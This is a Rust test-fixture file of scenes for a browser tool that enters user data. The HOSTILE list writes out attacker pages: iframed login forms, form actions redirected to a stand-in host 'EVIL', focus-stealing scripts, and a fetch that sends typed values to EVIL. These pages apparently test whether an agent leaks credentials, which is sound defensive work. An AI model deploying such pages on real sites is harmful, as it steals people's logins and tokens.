//! The pages of the runs that a person attends: what the caller's own site and the attacker's show, and what is ordered.

/// One run. `EVIL` and `OWN` stand for the attacker's and the caller's addresses, `@Name` for the ref of an element.
pub(super) struct Scene {
    pub(super) name: &'static str,
    /// Pages of the caller's own site.
    pub(super) own: &'static [(&'static str, &'static str)],
    /// Pages of the other site.
    pub(super) theirs: &'static [(&'static str, &'static str)],
    pub(super) calls: &'static [(&'static str, &'static str)],
    /// How long the person takes to answer.
    pub(super) thinks_ms: u64,
    /// Whether the person is asked, and whether something is refused: else it may be either way.
    pub(super) is_asked: bool,
    pub(super) is_refused: bool,
    /// Whether the caller trusts the other site.
    pub(super) trusts_them: bool,
    /// What one request has to hold, of an honest run.
    pub(super) reaches: &'static [&'static str],
}

const NONE: Scene = Scene {
    name: "",
    own: &[],
    theirs: &[],
    calls: &[],
    thinks_ms: 0,
    is_asked: false,
    is_refused: false,
    trusts_them: false,
    reaches: &[],
};

const ASK: (&str, &str) = (
    "request_user_data",
    r#"{"description":"your login","refs":["@Login"]}"#,
);
const SEND: (&str, &str) = ("click", r#"{"ref":"@Send"}"#);
const LOGIN: &str =
    "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form>";
/// A frame that takes the focus again and again, and tells of every key.
const THIEF: &str = "<input id=t aria-label=Trap><script>setInterval(() => t.focus(), 1);
  addEventListener('blur', () => t.focus()); t.focus();</script>";

pub(super) const HOSTILE: &[Scene] = &[
    Scene {
        name: "a frame of theirs that asks",
        own: &[("/", "<iframe src='http://EVIL/form' width=400 height=200></iframe>")],
        theirs: &[("/form", LOGIN)],
        calls: &[ASK, SEND],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a frame of theirs whose form is sent home",
        own: &[("/", "<iframe src='http://EVIL/form' width=400 height=200></iframe>")],
        theirs: &[("/form", "<form action='http://OWN/login' method=post><input name=l aria-label=Login><button>Send</button></form>")],
        calls: &[ASK, SEND],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a frame without an address in a frame of theirs",
        own: &[("/", "<iframe src='http://EVIL/form' width=400 height=200></iframe>")],
        theirs: &[(
            "/form",
            "<base href='http://OWN/'><iframe id=f srcdoc=\"<base href='http://OWN/'><input aria-label=Login oninput='parent.tell(1, this.value)'>\"></iframe>",
        )],
        calls: &[ASK],
        ..NONE
    },
    Scene {
        name: "an own form that is sent to them",
        own: &[("/", "<form action='http://EVIL/got?form' method=post><input name=l aria-label=Login><button>Send</button></form>")],
        calls: &[ASK, SEND],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "an own form whose button is theirs",
        own: &[(
            "/",
            "<form action=/login method=post><input name=l aria-label=Login><button formaction='http://EVIL/got?form'>Send</button></form>",
        )],
        calls: &[ASK, SEND, ("press", r#"{"key":"Enter","ref":"@Login"}"#)],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a form that a named field hides",
        own: &[(
            "/",
            "<form action='http://EVIL/got?form' method=post><input name=action value=/login><input name=localName><input name=l aria-label=Login><button>Send</button></form>",
        )],
        calls: &[ASK, SEND],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a frame that takes the focus",
        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form><iframe src='http://EVIL/thief'></iframe>")],
        theirs: &[("/thief", THIEF)],
        calls: &[ASK, ("fill", r#"{"ref":"@Login","value":"SHOWN"}"#), ("type", r#"{"ref":"@Login","value":"SHOWN"}"#), ASK, SEND],
        is_asked: true,
        ..NONE
    },
    Scene {
        name: "a frame that takes the focus from what is no field",
        own: &[("/", "<div tabindex=0 role=application aria-label=Login>pad</div><iframe src='http://EVIL/thief'></iframe>")],
        theirs: &[("/thief", THIEF)],
        calls: &[("type", r#"{"ref":"@Login","value":"SHOWN"}"#), ("press", r#"{"ref":"@Login","key":"x"}"#)],
        ..NONE
    },
    Scene {
        name: "a field of theirs on the own page that takes the focus",
        own: &[(
            "/",
            "<form action=/login method=post><input name=l id=l aria-label=Login><button>Send</button></form>
             <form action='http://EVIL/got?form'><input id=t name=t aria-label=Trap></form>
             <script>l.onfocus = () => t.focus(); setInterval(() => t.focus(), 1);
             t.oninput = () => fetch('http://EVIL/got?v=' + t.value, {mode: 'no-cors'});</script>",
        )],
        calls: &[ASK, ("type", r#"{"ref":"@Login","value":"SHOWN"}"#), SEND],
        is_asked: true,
        ..NONE
    },
    Scene {
        name: "a form whose address changes while the person types",
        own: &[(
            "/",
            "<form id=f action=/login method=post><input name=l aria-label=Login><button>Send</button></form>
             <script>asked(() => f.action = 'http://EVIL/got?form')</script>",
        )],
        calls: &[ASK, SEND],
        thinks_ms: 800,
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a field that goes over to another form while the person types",
        own: &[(
            "/",
            "<form action=/login method=post><input id=l name=l aria-label=Login><button>Send</button></form>
             <form id=g action='http://EVIL/got?form' method=post></form>
             <script>asked(() => l.setAttribute('form', 'g'))</script>",
        )],
        calls: &[ASK, SEND, ("press", r#"{"key":"Enter","ref":"@Login"}"#)],
        thinks_ms: 800,
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a frame that becomes theirs while the person types",
        own: &[
            ("/", "<iframe id=f src=/form width=400 height=200></iframe><script>asked(() => f.src = 'http://EVIL/form')</script>"),
            ("/form", LOGIN),
        ],
        theirs: &[("/form", LOGIN)],
        calls: &[ASK, SEND],
        thinks_ms: 800,
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a page that goes to them while the person types",
        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form><script>asked(() => location = 'http://EVIL/form')</script>")],
        theirs: &[("/form", LOGIN)],
        calls: &[ASK, SEND],
        thinks_ms: 800,
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a tab of theirs that comes up while the person types",
        own: &[(
            "/",
            "<button onclick=\"asked(() => open('http://EVIL/form'))\">Go</button>
             <form action=/login method=post><input name=l aria-label=Login><button>Send</button></form>",
        )],
        theirs: &[("/form", LOGIN)],
        calls: &[("click", r#"{"ref":"@Go"}"#), ASK, ("fill", r#"{"ref":"@Login","value":"SHOWN"}"#)],
        thinks_ms: 800,
        ..NONE
    },
    Scene {
        name: "a place of theirs that things are dragged to",
        own: &[(
            "/",
            "<input id=l aria-label=Login><div id=d draggable=true aria-label=Thing role=button style='width:90px;height:30px'>SHOWN</div>
             <iframe src='http://EVIL/box' width=300 height=150></iframe>
             <script>d.ondragstart = (it) => it.dataTransfer.setData('text/plain', l.value + ' SHOWN')</script>",
        )],
        theirs: &[("/box", "<div role=button tabindex=0 aria-label=Box style='width:200px;height:100px'>Box</div>")],
        calls: &[
            ASK,
            ("drag", r#"{"ref":"@Thing","to":"@Box"}"#),
            ("drag", r#"{"ref":"@Thing","x":20,"y":90}"#),
            ("drag", r#"{"ref":"@Thing","x":20,"y":120}"#),
        ],
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "a search of theirs that asks for more than the task says",
        own: &[("/", "<p>Your token is SHOWN</p><iframe src='http://EVIL/search' width=400 height=200></iframe>")],
        theirs: &[("/search", "<form action=/s><input type=search name=q aria-label=Search><input type=number aria-label=Count name=n><button>Send</button></form>")],
        calls: &[
            ("fill", r#"{"ref":"@Search","value":"SHOWN"}"#),
            ("type", r#"{"ref":"@Search","value":"SHOWN"}"#),
            ("press", r#"{"ref":"@Search","key":"5"}"#),
            ("fill", r#"{"ref":"@Count","value":"5512551255125512"}"#),
            ("request_user_data", r#"{"description":"x","refs":["@Search"]}"#),
        ],
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "what was copied, pasted into their frame",
        own: &[("/", "<input aria-label=Login><iframe src='http://EVIL/search' width=400 height=200></iframe>")],
        theirs: &[("/search", "<input type=search name=q aria-label=Search>")],
        calls: &[
            ASK,
            ("press", r#"{"ref":"@Login","key":"Control+A"}"#),
            ("press", r#"{"ref":"@Login","key":"Control+C"}"#),
            ("press", r#"{"ref":"@Search","key":"Control+V"}"#),
            ("focus", r#"{"ref":"@Search"}"#),
            ("press", r#"{"key":"Control+V"}"#),
        ],
        is_asked: true,
        is_refused: true,
        ..NONE
    },
    Scene {
        name: "what was copied, while their frame takes the focus",
        own: &[("/", "<input aria-label=Login><iframe src='http://EVIL/thief'></iframe>")],
        theirs: &[("/thief", THIEF)],
        calls: &[
            ASK,
            ("press", r#"{"ref":"@Login","key":"Control+A"}"#),
            ("press", r#"{"ref":"@Login","key":"Control+C"}"#),
            ("press", r#"{"ref":"@Login","key":"Control+V"}"#),
            ("press", r#"{"key":"Control+V"}"#),
        ],
        is_asked: true,
        ..NONE
    },
];

const TYPED: &str = super::interactive::TYPED;
/// A field that its page controls, as component libraries do: a value that no event brought is put back.
const CONTROLLED: &str = "<form action=/login method=post><input id=l name=l aria-label=Login><button>Send</button></form><script>
  let state = ''; const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); let seen = '';
  Object.defineProperty(l, 'value', { get: () => own.get.call(l), set: (it) => { seen = it; own.set.call(l, it); } });
  l.addEventListener('input', () => { const now = own.get.call(l); if (now !== seen) { seen = now; state = now; } own.set.call(l, state); });
  setInterval(() => { if (own.get.call(l) !== state) own.set.call(l, state); }, 10);</script>";

pub(super) const HONEST: &[Scene] = &[
    Scene { name: "a login", own: &[("/", LOGIN)], calls: &[ASK, SEND], reaches: &["/login", TYPED], ..NONE },
    Scene {
        name: "a login with a password, sent by Enter",
        own: &[("/", "<form action=/login method=post><label>Login <input name=l type=email></label><label>Password <input name=p type=password></label><button>Send</button></form>")],
        calls: &[("request_user_data", r#"{"description":"login","refs":["@Login","@Password"]}"#), ("press", r#"{"ref":"@Password","key":"Enter"}"#)],
        reaches: &["/login", TYPED, "%40example.org"],
        ..NONE
    },
    Scene {
        name: "a form of another host, which is trusted",
        own: &[("/", "<form action='http://EVIL/login' method=post><input name=l aria-label=Login><button>Send</button></form>")],
        calls: &[ASK, SEND],
        trusts_them: true,
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a frame of another host, which is trusted",
        own: &[("/", "<iframe src='http://EVIL/form' width=400 height=200></iframe>")],
        theirs: &[("/form", LOGIN)],
        calls: &[ASK, SEND],
        trusts_them: true,
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a frame of the own host",
        own: &[("/", "<iframe src=/form width=400 height=200></iframe>"), ("/form", LOGIN)],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a frame written by the page itself",
        own: &[("/", "<iframe srcdoc=\"<form action=/login method=post target=_top><input name=l aria-label=Login><button>Send</button></form>\" width=400 height=200></iframe>")],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a checkout",
        own: &[(
            "/",
            "<form action=/order method=post><label>Login <input name=l required></label><label>Street <textarea name=s></textarea></label>
             <label>Country <select name=c><option>Norway<option>Peru</select></label><label>Day <input type=date name=d></label>
             <label><input type=checkbox name=ok> Agree</label><button>Send</button></form>",
        )],
        calls: &[("request_user_data", r#"{"description":"delivery","refs":["@Login","@Street","@Country","@Day","@Agree"]}"#), SEND],
        reaches: &["/order", TYPED, "c=Norway", "d=2026-03-31", "ok=on"],
        ..NONE
    },
    Scene {
        name: "a search",
        own: &[("/", "<form action=/s><input type=search name=q aria-label=Search><button>Send</button></form>")],
        calls: &[("fill", r#"{"ref":"@Search","value":"best kettle of all"}"#), SEND],
        reaches: &["/s?q=best+kettle+of+all"],
        ..NONE
    },
    Scene {
        name: "a search in a frame of others, in words of the task",
        own: &[("/", "<iframe src='http://EVIL/search' width=400 height=200></iframe>")],
        theirs: &[("/search", "<form onsubmit=\"fetch('/s?q=' + q.value); return false\"><input type=search id=q aria-label=Search><button>Send</button></form>")],
        calls: &[("fill", r#"{"ref":"@Search","value":"best kettles"}"#)],
        reaches: &["/got?what=value&v=best%20kettles"],
        ..NONE
    },
    Scene { name: "a controlled field", own: &[("/", CONTROLLED)], calls: &[ASK, SEND], reaches: &["/login", TYPED], ..NONE },
    Scene {
        name: "a masked field",
        own: &[(
            "/",
            "<form action=/login method=post><input id=l name=l aria-label=Login><button>Send</button></form><script>
             l.addEventListener('input', () => { l.value = l.value.toUpperCase().replace(/[^A-Z0-9]/g, ''); });</script>",
        )],
        calls: &[ASK, SEND],
        reaches: &["/login", "CANARY77E"],
        ..NONE
    },
    Scene {
        name: "a field that writes its keys itself",
        own: &[(
            "/",
            "<form action=/login method=post><input id=l name=l aria-label=Login><button>Send</button></form><script>
             l.addEventListener('keypress', (it) => { it.preventDefault(); l.value += it.key; });</script>",
        )],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a note that is edited in place",
        own: &[(
            "/",
            "<div contenteditable role=textbox aria-label=Login id=l style='width:200px;height:40px'></div>
             <button onclick=\"fetch('/login', {method: 'POST', body: l.innerText})\">Send</button>",
        )],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a form that its script sends",
        own: &[("/", "<form id=f><input name=l id=l aria-label=Login><button>Send</button></form><script>f.onsubmit = (it) => { it.preventDefault(); fetch('/login', {method: 'POST', body: l.value}); }</script>")],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a button that wakes up when something is typed",
        own: &[("/", "<form action=/login method=post><input id=l name=l aria-label=Login><button id=b disabled>Send</button></form><script>l.onkeyup = () => b.disabled = !l.value</script>")],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a login beside an advertisement that takes the focus",
        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form><iframe src='http://EVIL/thief'></iframe>")],
        theirs: &[("/thief", THIEF)],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a field in a shadow tree",
        own: &[("/", "<x-box></x-box><script>customElements.define('x-box', class extends HTMLElement { connectedCallback() {
            this.attachShadow({mode: 'open'}).innerHTML = '<form action=/login method=post><input name=l aria-label=Login><button>Send</button></form>'; } })</script>")],
        calls: &[ASK, SEND],
        reaches: &["/login", TYPED],
        ..NONE
    },
    Scene {
        name: "a thing dragged to its place",
        own: &[(
            "/",
            "<div id=d draggable=true aria-label=Thing role=button style='width:90px;height:30px'>Thing</div>
             <div id=b role=button tabindex=0 aria-label=Box style='width:200px;height:100px'>Box</div>
             <script>d.ondragstart = (it) => it.dataTransfer.setData('text/plain', 'tea'); b.ondragover = (it) => it.preventDefault();
             b.ondrop = (it) => fetch('/dropped?' + it.dataTransfer.getData('text'))</script>",
        )],
        calls: &[("drag", r#"{"ref":"@Thing","to":"@Box"}"#)],
        reaches: &["/dropped?tea"],
        ..NONE
    },
    Scene {
        name: "a word typed after another",
        own: &[("/", "<form action=/login method=post><input name=l aria-label=Login value=old><button>Send</button></form>")],
        calls: &[("type", r#"{"ref":"@Login","value":" and new\n"}"#)],
        reaches: &["/login", "old+and+new"],
        ..NONE
    },
    Scene {
        name: "a note of two lines",
        own: &[("/", "<form action=/login method=post><textarea name=l aria-label=Login></textarea><button>Send</button></form>")],
        calls: &[("fill", r#"{"ref":"@Login","value":"one\ntwo"}"#), SEND],
        reaches: &["/login", "one%0D%0Atwo"],
        ..NONE
    },
];
